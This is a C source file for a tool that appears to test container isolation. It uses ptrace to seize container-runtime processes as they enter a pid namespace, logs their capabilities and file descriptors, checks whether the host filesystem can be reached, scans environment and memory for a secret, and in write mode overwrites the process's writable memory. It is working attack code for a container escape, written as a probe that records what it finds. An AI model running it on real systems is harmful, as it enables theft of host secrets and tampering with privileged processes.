// tracer read|write SECRET PATH FILE: waits for each process that is about to appear in this pid namespace, stops it by ptrace before it executes
// anything, and notes in FILE what it finds there: what a container with CAP_SYS_PTRACE can do to a process that is put into it. PATH is a file that the host's root has.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *notes;
static char data[1 << 20];

static char *slurp_path(const char *path) {
    int file = open(path, O_RDONLY);
    ssize_t length = file < 0 ? -1 : read(file, data, sizeof data - 1);
    if (file >= 0) close(file);
    data[length < 0 ? 0 : length] = 0;
    return data;
}

static char *slurp(pid_t pid, const char *name) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return slurp_path(path);
}

static int is_runtime(pid_t pid) {
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    // Its own file is executed from a mount that is attached nowhere: the path of that is "/".
    return !strcmp(target, "/") || strstr(target, "gantry-runtime");
}

static void look_at_memory(pid_t pid, const char *secret, int overwrite) {
    char path[64], permissions[8];
    unsigned long start, end;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    char *maps = strdup(slurp(pid, "maps"));
    for (char *line = strtok(maps, "\n"); line; line = strtok(NULL, "\n")) {
        if (sscanf(line, "%lx-%lx %7s", &start, &end, permissions) != 3) continue;
        for (unsigned long at = start; at < end; at += sizeof data) {
            size_t length = end - at < sizeof data ? end - at : sizeof data;
            ssize_t count = pread(memory, data, length, (off_t)at);
            if (count <= 0) break;
            if (memmem(data, (size_t)count, secret, strlen(secret))) fprintf(notes, "secret at %lx in %s\n", at, line);
            memset(data, 0xcc, (size_t)count);
            if (overwrite && permissions[1] == 'w' && pwrite(memory, data, (size_t)count, (off_t)at) > 0) fprintf(notes, "overwritten\n");
        }
    }
    free(maps);
    close(memory);
}

static void look(pid_t pid, const char *secret, const char *host_file, int overwrite) {
    char path[256], link[520], target[4096], *line;
    fprintf(notes, "met\n");
    for (line = strtok(slurp(pid, "status"), "\n"); line; line = strtok(NULL, "\n"))
        if (!strncmp(line, "CapPrm", 6) || !strncmp(line, "CapEff", 6) || !strncmp(line, "CapBnd", 6)) fprintf(notes, "%s\n", line);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
        if (entry->d_name[0] == '.') continue;
        snprintf(link, sizeof link, "%s/%s", path, entry->d_name);
        ssize_t length = readlink(link, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        fprintf(notes, "descriptor %s %s\n", entry->d_name, target);
    }
    if (descriptors) closedir(descriptors);
    snprintf(path, sizeof path, "/proc/%d/root%.200s", pid, host_file);
    if (!access(path, F_OK)) fprintf(notes, "root of the host\n");
    if (memmem(slurp(pid, "environ"), sizeof data, secret, strlen(secret))) fprintf(notes, "secret in the environment\n");
    look_at_memory(pid, secret, overwrite);
}

int main(int count, char **words) {
    if (count != 5 || !(notes = fopen(words[4], "w"))) return 2;
    setlinebuf(notes);
    fprintf(notes, "ready\n");
    pid_t last = getpid();
    for (unsigned round = 0;; round++) {
        // One that came and went unseen: /proc/loadavg ends with the newest number.
        if (round % 256 == 0) last = atoi(strrchr(slurp_path("/proc/loadavg"), ' ') + 1);
        for (pid_t pid = last + 1; pid < last + 4; pid++) {
            if (ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
            int status;
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
                if (is_runtime(pid)) look(pid, words[2], words[3], words[1][0] == 'w');
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            last = pid;
            break;
        }
    }
}
